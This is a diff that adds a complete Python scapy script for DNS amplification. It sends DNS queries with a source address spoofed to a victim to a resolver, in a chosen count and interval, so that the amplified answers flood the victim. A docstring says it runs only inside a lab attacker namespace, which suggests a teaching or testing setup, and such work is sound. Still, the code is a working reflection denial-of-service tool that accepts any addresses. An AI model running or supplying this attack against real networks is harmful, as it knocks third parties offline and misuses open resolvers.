@@ -1,0 +1,23 @@
+#!/usr/bin/python3
+"""DNS amplification with scapy: COUNT queries whose source address is spoofed to VICTIM, sent to
+the lab resolver, so the (larger) answers go to the victim.
+
+  dns_amp.py RESOLVER VICTIM ZONE QTYPE COUNT INTERVAL_S
+Only ever called inside the lab's attacker namespace with lab addresses.
+"""
+import sys
+
+from scapy.all import DNS, DNSQR, IP, UDP, RandShort, conf, send
+
+conf.verb = 0
+
+
+def main():
+    resolver, victim, zone, qtype = sys.argv[1:5]
+    count, interval = int(sys.argv[5]), float(sys.argv[6])
+    pkt = IP(src=victim, dst=resolver) / UDP(sport=RandShort(), dport=53) / DNS(rd=1, qd=DNSQR(qname=zone, qtype=qtype))
+    send(pkt, count=count, inter=interval)
+
+
+if __name__ == '__main__':
+    main()
